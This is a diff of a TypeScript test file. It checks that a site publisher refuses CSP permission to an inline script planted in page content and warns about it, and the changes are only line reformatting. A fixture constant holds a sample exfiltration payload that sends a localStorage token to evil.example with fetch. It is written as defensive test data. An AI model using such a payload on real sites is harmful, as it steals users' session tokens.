@@ -10,7 +10,8 @@ import { loadRenderer, openRenderedShop } from '../support/rendered-shop.ts'
 import { openTestPublisher } from '../support/test-publisher.ts'
 
 const STOLEN = 'fetch("https://evil.example/?" + localStorage.token)'
-const hashOf = (text: string): string => `'sha256-${createHash('sha256').update(text).digest('base64')}'`
+const hashOf = (text: string): string =>
+  `'sha256-${createHash('sha256').update(text).digest('base64')}'`
 
 test('An inline script in the content of a page gets no permission, and the publish warns of it', async () => {
   const publisher = await openTestPublisher()
@@ -23,7 +24,9 @@ test('An inline script in the content of a page gets no permission, and the publ
   const headers = await readFile(join(publisher.store.folder(id), '_headers'), 'utf8')
   expect(headers).toContain(hashOf('console.log("Vanakkam")'))
   expect(headers).not.toContain(hashOf(STOLEN))
-  expect(publisher.warnings).toEqual(['/blogs/story contains an inline script that is not part of the site’s code'])
+  expect(publisher.warnings).toEqual([
+    '/blogs/story contains an inline script that is not part of the site’s code'
+  ])
 })
 
 test(
